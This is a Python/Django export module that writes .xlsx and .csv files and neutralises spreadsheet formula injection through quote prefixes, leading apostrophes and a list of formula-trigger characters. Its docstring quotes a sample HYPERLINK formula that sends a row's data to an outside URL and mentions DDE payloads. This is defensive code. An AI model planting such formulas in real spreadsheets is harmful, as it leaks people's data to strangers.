"""Every spreadsheet the project hands out (.xlsx and .csv) is written here.

Names, positions and report fields are typed by people, some of them hostile. A cell whose
text starts with "=", "+", "-" or "@" (or a tab, a line break, or their full-width forms,
which some Excel input methods accept as formula signs) is a formula to a spreadsheet
program: `=HYPERLINK("https://…?"&B2, "klik")` sends the row to a stranger when clicked,
and a DDE payload runs a program. So no text from the database is ever written as a
formula or as anything but text:

- .xlsx: the cell is a text cell holding exactly what was typed, and formula-like text also
  carries Excel's "quote prefix" flag (what Excel itself stores when one types '=1+1), so it
  stays text even when someone edits the cell. The value is unchanged: an exported roster
  imports back as it was.
- .csv has no types: formula-like text gets a leading apostrophe, the usual defence.

Numbers stay numbers, dates and times are real Excel dates in local time (WIB), and every
response is a private, uncached attachment. The workbook itself is written by core/xlsx.py, a small
streaming SpreadsheetML writer (openpyxl took ~12 µs per cell; a national export has 90,000 cells).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from decimal import Decimal

from django.http import HttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header
from django.utils.translation import gettext as _
from django.utils.translation import pgettext

from core import xlsx
from core.http import no_store

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"

# The first character that makes a spreadsheet read the cell as a formula (or, for
# tab and line breaks, that some programs skip before looking for one).
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
# Characters XML 1.0 cannot carry (a reader refuses the whole file): dropped.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_XLSX_MAX_TEXT = 32767

DATE_FORMAT = xlsx.FORMAT_CODES[xlsx.DATE]
DATETIME_FORMAT = xlsx.FORMAT_CODES[xlsx.DATETIME]
TEXT_FORMAT = xlsx.FORMAT_CODES[xlsx.TEXT]


def choice_labels(model, field_name: str) -> dict[object, str]:
    """{stored value: its label in the active language} of a field with choices, for an export's rows:
    translated once per response, where `get_FOO_display()` on every row translates (and hashes the
    lazy choices) again each time."""
    return {value: str(label) for value, label in model._meta.get_field(field_name).flatchoices}


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read `text` as a formula (leading spaces do not protect it)."""
    stripped = text.lstrip(" \u00a0\u3000")
    return bool(stripped) and stripped[0] in FORMULA_TRIGGERS


def clean_text(value: object) -> str:
    return _ILLEGAL.sub("", str(value))


@dataclass(frozen=True)
class Column:
    title: str
    width: float | None = None
    # Cells formatted as Text: identifiers (an 18-digit NIP typed into the column must
    # never become a rounded number); the whole column is, so are rows typed in later.
    text: bool = False


def row_number_column() -> Column:
    """The "No." column. "No." alone is ambiguous to translators: Django's Indonesian catalogue turns
    "No" into "Tidak". The context says it is the row number."""
    return Column(pgettext("row number", "No."), 5)


def downloaded_line() -> list[str]:
    """A preamble line: when the file was downloaded (WIB)."""
    return [_("Diunduh %(when)s WIB") % {"when": timezone.localtime().strftime("%d-%m-%Y %H:%M")}]


@dataclass
class Sheet:
    title: str
    columns: Sequence[Column]
    rows: Iterable[Sequence[object]]
    # Lines above the header (a title, when it was downloaded); the first one is bold.
    preamble: Sequence[Sequence[object]] = field(default_factory=tuple)
    freeze_header: bool = True


# --- .xlsx ---------------------------------------------------------------------------


def _local_naive(value: dt.datetime, tz: dt.tzinfo | None = None) -> dt.datetime:
    # Excel has no time zones: the wall-clock time in WIB (the project's TIME_ZONE).
    if timezone.is_aware(value):
        value = value.astimezone(tz or timezone.get_current_timezone())
    return value.replace(tzinfo=None)


def _xlsx_cell(
    index: int, row: int, value: object, column: Column | None, *, bold: bool = False, tz: dt.tzinfo | None = None
) -> str | None:
    """The <c> element of one value (core.xlsx), or None for an empty cell that needs no style.

    Text is always a text cell (an inline string: never a formula, never an error value); formula-like text
    also carries the quote prefix, so that it stays text when someone edits the cell."""
    text_column = column is not None and column.text
    if type(value) is str:  # most cells: the checks below without the type tests
        text = value if value.isprintable() else clean_text(value)
        text = text[:_XLSX_MAX_TEXT]
        stripped = text.lstrip(" \u00a0\u3000")
        quote = bool(stripped) and stripped[0] in FORMULA_TRIGGERS
        return xlsx.text_cell(
            index, row, text, xlsx.style(xlsx.TEXT if text_column else xlsx.GENERAL, bold=bold, quote_prefix=quote)
        )
    if value is None:
        if not (bold or text_column):
            return None
        # An empty cell that keeps its column's Text format (or the header's bold): no value, not "".
        return xlsx.cell(index, row, None, xlsx.style(xlsx.TEXT if text_column else xlsx.GENERAL, bold=bold))
    number_format = xlsx.GENERAL
    if isinstance(value, (bool, int, float, Decimal)):
        cell_value: object = value
    elif isinstance(value, dt.datetime):
        cell_value, number_format = _local_naive(value, tz), xlsx.DATETIME
    elif isinstance(value, dt.date):
        cell_value, number_format = value, xlsx.DATE
    else:
        cell_value = clean_text(value)[:_XLSX_MAX_TEXT]
    if text_column:
        number_format = xlsx.TEXT
    quote = isinstance(cell_value, str) and is_formula_like(cell_value)
    return xlsx.cell(index, row, cell_value, xlsx.style(number_format, bold=bold, quote_prefix=quote))


def _sheet_rows(sheet: Sheet) -> Iterator[list[str]]:
    """The sheet's rows as <c> elements: the preamble (its first line bold), the bold header, the data rows
    (read one at a time from `sheet.rows`)."""
    tz = timezone.get_current_timezone()
    number = 0
    for line_number, line in enumerate(sheet.preamble):
        number += 1
        yield [c for i, v in enumerate(line) if (c := _xlsx_cell(i, number, v, None, bold=line_number == 0, tz=tz))]
    number += 1
    yield [c for i, column in enumerate(sheet.columns) if (c := _xlsx_cell(i, number, column.title, None, bold=True))]
    columns = list(sheet.columns)
    width = len(columns)
    for values in sheet.rows:
        number += 1
        yield [
            c
            for i, value in enumerate(values)
            if (c := _xlsx_cell(i, number, value, columns[i] if i < width else None, tz=tz)) is not None
        ]


def write_xlsx(sheets: Sequence[Sheet]) -> bytes:
    """The workbook's bytes (core.xlsx). The rows stream from each sheet's iterable into the compressed
    archive one at a time, so memory stays flat however many rows there are."""
    out = io.BytesIO()
    workbook = xlsx.Workbook(out)
    titles: set[str] = set()
    for sheet in sheets:
        formats = [xlsx.ColumnFormat(c.width, xlsx.style(xlsx.TEXT) if c.text else 0) for c in sheet.columns]
        frozen = len(sheet.preamble) + 1 if sheet.freeze_header else 0
        workbook.sheet(_unique(_sheet_title(sheet.title), titles), formats, _sheet_rows(sheet), frozen_rows=frozen)
    workbook.close()
    return out.getvalue()


def _unique(title: str, taken: set[str]) -> str:
    # Excel refuses two sheets of one name (case-insensitive).
    candidate, n = title, 1
    while candidate.casefold() in taken:
        n += 1
        candidate = f"{title[: 31 - len(str(n)) - 1]} {n}"
    taken.add(candidate.casefold())
    return candidate


def _sheet_title(title: str) -> str:
    # Excel's limits: 31 characters, none of []:*?/\ .
    cleaned = re.sub(r"[\[\]:*?/\\]", "-", clean_text(title)).strip("'") or "Sheet"
    return cleaned[:31]


# --- .csv ----------------------------------------------------------------------------


def _csv_value(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, (bool, int, float, Decimal)):
        return str(value)
    if isinstance(value, dt.datetime):
        return _local_naive(value).isoformat(sep=" ", timespec="minutes")
    if isinstance(value, dt.date):
        return value.isoformat()
    text = clean_text(value)
    return f"'{text}" if is_formula_like(text) else text


def write_csv(columns: Sequence[Column], rows: Iterable[Sequence[object]], *, delimiter: str = ",") -> bytes:
    """UTF-8 with a byte-order mark (without it Excel reads UTF-8 as the local code page)."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow([_csv_value(column.title) for column in columns])
    for row in rows:
        writer.writerow([_csv_value(value) for value in row])
    return out.getvalue().encode("utf-8")


# --- Responses -----------------------------------------------------------------------


def safe_filename(filename: str) -> str:
    """ASCII letters, digits, dot, dash and underscore; anything else becomes a dash."""
    stem, dot, extension = filename.rpartition(".")
    if not dot:
        stem, extension = filename, ""
    stem = re.sub(r"[^A-Za-z0-9_-]+", "-", stem).strip("-.")[:100] or "unduhan"
    extension = re.sub(r"[^A-Za-z0-9]+", "", extension)[:10]
    return f"{stem}.{extension}" if extension else stem


def attachment_response(content: bytes, filename: str, content_type: str) -> HttpResponse:
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = content_disposition_header(True, safe_filename(filename))
    # Rosters and reports name people: no shared cache or browser history may keep a copy.
    no_store(response)
    return response


def xlsx_response(filename: str, *sheets: Sheet) -> HttpResponse:
    return attachment_response(write_xlsx(sheets), filename, XLSX_CONTENT_TYPE)


def csv_response(filename: str, columns: Sequence[Column], rows: Iterable[Sequence[object]]) -> HttpResponse:
    return attachment_response(write_csv(columns, rows), filename, CSV_CONTENT_TYPE)
